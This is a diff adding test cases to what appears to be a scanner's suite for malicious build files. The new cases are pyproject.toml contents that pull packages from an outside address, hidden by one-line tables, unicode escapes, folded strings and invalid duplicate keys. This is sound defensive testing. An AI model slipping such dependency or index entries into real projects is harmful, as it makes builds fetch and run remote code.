@@ -113,6 +113,26 @@ describe("an attack by a build file", () => {
       bytes: () => '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "http://203.0.113.7/simple"\ndefault = true\n',
     },
     {
+      hope: "pyproject.toml lists its packages in a table of one line",
+      name: "pyproject.toml",
+      bytes: () => 'project = { name = "x", dependencies = ["a", "x @ https://203.0.113.7/x.whl"] }\n',
+    },
+    {
+      hope: "pyproject.toml spells an address by numbers, under a key in quotes",
+      name: "pyproject.toml",
+      bytes: () => '[project]\n"dep\\u0065ndencies" = ["x @ \\u0068ttps://203.0.113.7/x.whl"]\n',
+    },
+    {
+      hope: "an address is folded over lines",
+      name: "pyproject.toml",
+      bytes: () => '[[tool.uv.index]]\nurl = """\\\n  http://203.0.\\\n  113.7/simple"""\n',
+    },
+    {
+      hope: "TOML that no parser takes names its packages in a table of one line",
+      name: "pyproject.toml",
+      bytes: () => 'x = 1\nx = 2\nproject = { dependencies = ["x @ https://203.0.113.7/x.whl"] }\n',
+    },
+    {
       hope: "a Pipfile takes packages from an odd index",
       name: "Pipfile",
       bytes: () => '[[source]]\nurl = "http://203.0.113.7/simple"\nverify_ssl = false\nname = "x"\n',
